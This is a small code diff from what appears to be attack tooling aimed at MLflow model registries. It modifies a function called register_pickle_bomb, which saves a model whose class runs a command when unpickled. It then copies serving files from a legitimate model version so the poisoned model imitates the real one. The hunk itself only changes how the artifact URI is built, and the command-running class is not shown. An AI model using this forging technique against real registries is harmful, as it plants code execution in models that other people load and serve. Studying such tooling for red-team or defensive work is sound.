@@ -60,11 +60,10 @@ def register_pickle_bomb(
     folder = work / "model"
     mlflow.pyfunc.save_model(str(folder), python_model=RunsACommandWhenUnpickled(command), pip_requirements=[])
     if forge_from is not None:
+        source = client.get_model_version_download_uri(name, forge_from)
         for relpath in SERVING_FILES:
             copied = mlflow.artifacts.download_artifacts(
-                artifact_uri=f"models:/{name}/{forge_from}/{relpath}",
-                dst_path=str(work / "good"),
-                tracking_uri=tracking_uri,
+                artifact_uri=f"{source}/{relpath}", dst_path=str(work / "good"), tracking_uri=tracking_uri
             )
             (folder / relpath).parent.mkdir(parents=True, exist_ok=True)
             shutil.copyfile(copied, folder / relpath)
